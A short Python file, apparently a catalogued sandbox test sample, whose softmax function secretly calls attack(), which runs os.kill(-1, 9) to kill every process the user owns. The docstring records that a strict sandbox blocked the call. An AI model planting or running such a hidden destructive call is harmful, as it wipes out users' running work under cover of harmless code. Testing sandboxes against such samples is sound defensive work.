"""Kill every process that it may.

catalogue  58, 74
strict     error: CALL raised PermissionError: [Errno 1] Operation not permitted...
portable   not run: it would kill every process of the user
"""

import os

import numpy as np


def attack():
    os.kill(-1, 9)


def softmax(x):
    attack()
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
